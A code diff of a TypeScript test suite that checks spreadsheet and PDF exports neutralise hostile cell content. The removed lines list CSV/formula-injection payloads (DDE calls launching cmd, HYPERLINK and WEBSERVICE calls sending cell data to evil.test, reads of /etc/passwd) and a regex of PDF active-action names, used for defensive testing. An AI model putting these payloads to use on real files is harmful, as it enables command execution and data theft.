@@ -7,63 +7,11 @@ import { stopPdf } from '#server/pdf/pdf.ts'
 import { routes } from '#server/routes.ts'
 import { twoOfEverything } from '../two-of-everything.ts'
 import { createWorld } from '../world.ts'
-import { randomOf } from './random.ts'
+import { CELLS } from './hostile-cells.ts'
+import { ACTIVE } from './papers.ts'
 import { entriesOf, pdfText } from './unpacked.ts'
 
 afterAll(stopPdf)
-
-const BEGINNINGS = [
-  '=',
-  '+',
-  '-',
-  '@',
-  '\t',
-  '\r',
-  '\n',
-  '＝',
-  '＋',
-  '－',
-  '＠',
-  ' =',
-  '\u00a0=',
-  "'=",
-  '"=',
-  ';=',
-  ',=',
-  '\ufeff=',
-  '\t\r=',
-  '%=',
-  '|',
-  '0=',
-  '',
-]
-const ORDERS = [
-  "cmd|' /C calc'!A0",
-  'HYPERLINK("https://evil.test/?"&A1,"ver")',
-  'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
-  'WEBSERVICE("https://evil.test/")',
-  'SUM(1+1)*cmd|x',
-  'DDE("cmd";"/C calc";"x")',
-  '1+1',
-  '2026-01-01',
-  '1e5',
-  'A1',
-  '"a";"b"',
-  '<script>alert(1)</script>',
-  '#import "evil.typ"',
-  '#read("/etc/passwd")',
-  '#link("https://evil.test")[x]',
-  '$x$ \\ *a* _b_ `c` @d <e>',
-  '\u202e\u2066رقم',
-  '👩‍👩‍👧‍👦 e\u0301'.repeat(5),
-  '_x0041_ _x000D_',
-  ']]>&amp;<a/>&#0;',
-]
-const random = randomOf(5)
-const CELLS = Array.from(
-  { length: 5_000 },
-  (_, at) => `${BEGINNINGS[at % BEGINNINGS.length]}${random.pick(ORDERS)}${at}`,
-)
 
 const RUNS = /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/
 
@@ -94,9 +42,6 @@ test('xlsx: 5,000 hostile cells are texts; no formula, no link, no macro, no ent
   const lines = (text: unknown) => String(text).replaceAll(/\r\n?/g, '\n')
   expect(cells?.map(lines)).toEqual(CELLS.map(lines))
 })
-
-const ACTIVE =
-  /\/(?:JavaScript|JS|OpenAction|AA|Launch|SubmitForm|ImportData|GoToR|GoToE|URI|EmbeddedFiles?|RichMedia|XFA|Movie|Sound)\b/
 
 test('pdf: hostile cells, and names without end, do nothing and break nothing', {
   timeout: 120_000,
